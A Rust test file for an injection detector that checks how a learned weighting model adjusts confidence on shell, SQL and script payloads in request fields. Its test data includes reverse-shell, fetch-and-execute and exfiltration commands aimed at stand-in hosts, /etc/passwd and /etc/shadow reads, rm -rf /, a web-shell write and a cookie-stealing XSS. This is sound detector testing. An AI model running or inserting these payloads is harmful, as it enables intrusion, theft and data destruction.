//! What the model may do and what it may not, by the shipped weights.

use std::sync::atomic::{AtomicUsize, Ordering};

use super::*;
use crate::scan::{Scanner, Scratch};
use crate::set;

/// Leaves everything as the detectors said.
struct Silent;

impl Weigh for Silent {
    fn weigh(&self, question: &Question<'_>) -> Confidence {
        question.evidence.confidence
    }
}

fn sure(scanner: &Scanner, text: &str, (place, name): (Place, &str)) -> Option<Confidence> {
    let mut work = Scratch::default();
    let value = text.as_bytes();
    scanner.scan(value, &set::of(value), place, name.as_bytes(), &mut work);
    work.found().iter().map(|own| own.confidence).max()
}

/// How sure the detectors are, and how sure they are with the model.
fn both(text: &str, stand: (Place, &str)) -> (Option<Confidence>, Option<Confidence>) {
    let alone = sure(&Scanner::weighing(&Silent), text, stand);
    (alone, sure(Scanner::shared(), text, stand))
}

const WRITTEN: [(Place, &str); 4] = [
    (Place::Json, "text"),
    (Place::Form, "city"),
    (Place::Body, ""),
    (Place::Json, "stack"),
];

/// Commands and statements that do harm wherever they run.
const CLEAR: [&str; 14] = [
    "; cat /etc/passwd",
    "| nc -e /bin/sh 198.51.100.7 4444",
    "$(curl http://evil.example/x.sh)",
    "&& wget http://198.51.100.7/a -O /tmp/a && chmod +x /tmp/a && /tmp/a",
    "; cat /etc/shadow | nc 198.51.100.7 80",
    "`id`",
    "; whoami",
    "|| ping -c 10 127.0.0.1",
    "; sleep 15",
    "& dir C:\\Windows\\System32",
    "; rm -rf / --no-preserve-root",
    "\n/bin/cat /etc/passwd\n",
    "SELECT * FROM users INTO OUTFILE '/var/www/shell.php'",
    "; DROP TABLE users; --",
];

/// The most harmless texts there are, by what the model was trained on.
const PADDING: [&str; 7] = [
    "",
    "Steps to reproduce: run ",
    "See the docs, then try\n\n```\n",
    "`find . -name \"*.log\" -mtime +7 -exec rm -f {} \\;` works for me, and then ",
    "git clone https://git.example.org/team/app.git && cd app && npm install\n",
    "SELECT id, name, email FROM users WHERE active = true LIMIT 10; ",
    "Für die Installation reicht\r\n\r\n    sudo apt-get update && sudo apt-get install -y curl\r\n\r\n",
];

/// As long a text that says nothing.
fn neutral(text: &str) -> String {
    let blank = |c: char| if c.is_whitespace() { c } else { 'x' };
    text.chars().map(blank).collect()
}

#[test]
fn padding_lowers_nothing() {
    let silent = Scanner::weighing(&Silent);
    for attack in CLEAR {
        for stand in WRITTEN {
            for before in PADDING {
                for after in PADDING {
                    let text = format!("{before}{attack}\n{after}");
                    let weighed = sure(Scanner::shared(), &text, stand);
                    // What so much text on either side does to the detector's own reading is not the model's
                    // doing.
                    let plain = format!("{}{attack}\n{}", neutral(before), neutral(after));
                    let read = sure(&silent, &plain, stand).min(sure(&silent, &text, stand));
                    assert!(
                        weighed >= read,
                        "{stand:?} {before:?} {attack:?} {after:?}: {read:?}, then {weighed:?}"
                    );
                }
            }
        }
    }
}

#[test]
fn padding_within_a_command_lowers_nothing() {
    for text in [
        "; cat /var/log/app.log /var/log/nginx/error.log /etc/passwd",
        "; cat package.json README.md setup.log /etc/shadow",
        "; tar -czf backup.tar.gz site/ /etc/passwd",
        "; find . -type f -name \"*.tmp\" -o -name passwd -exec cat /etc/passwd {} +",
        "; curl -s https://api.example.com/health -d @/etc/passwd http://evil.example/",
    ] {
        for stand in WRITTEN {
            let (alone, weighed) = both(text, stand);
            assert!(
                weighed >= alone,
                "{stand:?} {text}: {alone:?}, then {weighed:?}"
            );
        }
    }
}

#[test]
fn harmless_commands_in_what_people_write_are_not_certain() {
    for text in [
        "find . -name \"*.log\" -mtime +9 -exec rm -f {} \\;",
        "docker run -d --name jacket -p 8070:80 -v $(pwd)/product:/data handle:latest",
        "`sudo apt-get update && sudo apt-get install -y pebble curl wget`",
    ] {
        let (alone, weighed) = both(text, (Place::Json, "text"));
        assert!(weighed < alone, "{text}: {alone:?}, then {weighed:?}");
        // Where nobody writes, they stay what they are.
        for stand in [
            (Place::Query, "id"),
            (Place::Cookie, "theme"),
            (Place::Json, "id"),
        ] {
            let (alone, weighed) = both(text, stand);
            assert_eq!(alone, weighed, "{stand:?} {text}");
        }
    }
}

#[test]
fn a_harmless_command_does_not_hide_the_attack_behind_it() {
    let harmless = "find . -name \"*.log\" -mtime +9 -exec rm -f {} \\;\n";
    let stand = (Place::Body, "");
    assert_eq!(both(harmless, stand).1, Some(Confidence::Likely));
    for count in [1, 3, MOST_LOWERED, 40] {
        let text = format!("{}; cat /etc/passwd", harmless.repeat(count));
        assert_eq!(both(&text, stand).1, Some(Confidence::Certain), "{count}");
    }
}

/// Lowers whatever is no later stage of a pipeline.
struct First;

impl Weigh for First {
    fn weigh(&self, question: &Question<'_>) -> Confidence {
        let own = question.evidence;
        let later = question.input.text.get(own.span.start) == Some(&b'|');
        if later {
            own.confidence
        } else {
            own.confidence.less()
        }
    }
}

#[test]
fn a_filter_behind_a_harmless_command_is_not_asked_about() {
    for (text, wanted) in [
        ("cat /etc/passwd | sort -rn | wc -l", Confidence::Likely),
        (
            "cat /etc/passwd | sort -rn | nc 198.51.100.7 80",
            Confidence::Certain,
        ),
    ] {
        let found = sure(&Scanner::weighing(&First), text, (Place::Query, "id"));
        assert_eq!(found, Some(wanted), "{text}");
    }
}

#[test]
fn only_stages_that_order_or_cut_what_they_are_given_are_filters() {
    for stage in [
        "| sort -rn",
        "|wc -l",
        "| grep -i \"time out\"",
        "| head -20 ",
    ] {
        assert!(is_filter(stage.as_bytes()), "{stage}");
    }
    for stage in [
        "| sh",
        "; sort",
        "| sort -o /etc/passwd",
        "| grep x /etc/shadow",
        "| head $(id)",
        "| tail > a",
        "| sortx",
        "| xargs rm",
        "| sort; id",
        "| grep `id`",
    ] {
        assert!(!is_filter(stage.as_bytes()), "{stage}");
    }
}

#[test]
fn an_attack_that_is_likely_becomes_certain() {
    let text = "hello <svg/onload=alert(document.cookie)>";
    let (alone, weighed) = both(text, (Place::Json, "text"));
    assert!(weighed >= alone);
    assert_eq!(weighed, Some(Confidence::Certain));
}

/// Counts how often it is asked, and lowers everything.
struct Counter(AtomicUsize);

impl Weigh for Counter {
    fn weigh(&self, question: &Question<'_>) -> Confidence {
        self.0.fetch_add(1, Ordering::Relaxed);
        question.evidence.confidence.less()
    }
}

#[test]
fn a_text_is_read_again_so_many_times_at_most() {
    let counter: &'static Counter = Box::leak(Box::new(Counter(AtomicUsize::new(0))));
    for count in [10, 1000, 10_000] {
        let text = "; cat /etc/passwd\n".repeat(count);
        let input = Input {
            text: text.as_bytes(),
            context: crate::context::Context::new(Place::Body, b""),
            depth: 0,
        };
        let found = detect(&crate::shell::DETECTOR, &input, counter);
        assert_eq!(found.unwrap().confidence, Confidence::Certain);
        let asked = counter.0.swap(0, Ordering::Relaxed);
        assert_eq!(asked, MOST_LOWERED + 1);
    }
}

#[test]
fn the_work_of_a_sample_has_a_bound() {
    // An n-gram and its class for every byte, and the same for one, two and three tokens.
    const MOST: usize = 8 * (feature::LONGEST + 1) + 2;
    for text in ["a", ";", "a ", "\u{e9}", "a;", "0x"] {
        for count in [1, 100, 100_000] {
            let text = text.repeat(count);
            let sample = Sample::new(Class::Shell, "a test", text.as_bytes(), &(0..text.len()));
            let mut steps = 0;
            sample.span(|at| steps += usize::from(at < feature::WIDTH));
            assert!(steps <= MOST, "{steps}");
            let mut steps = 0;
            sample.around(|at| steps += usize::from(at < feature::WIDTH));
            assert!(steps <= 2 + 2 * 3 * 40, "{steps}");
        }
    }
}

#[test]
fn a_span_that_is_not_read_in_full_is_never_lowered() {
    let text = [b'a'; 2 * feature::LONGEST];
    for (len, wanted) in [(feature::LONGEST, true), (feature::LONGEST + 1, false)] {
        let input = Input {
            text: &text,
            context: crate::context::Context::new(Place::Json, b"text"),
            depth: 0,
        };
        let (class, reading) = WEAK[0];
        let evidence = Evidence {
            span: 7..7 + len,
            reading,
            confidence: Confidence::Certain,
        };
        let question = Question {
            class,
            input: &input,
            evidence: &evidence,
        };
        assert_eq!(question.may_be_harmless(), wanted);
    }
}
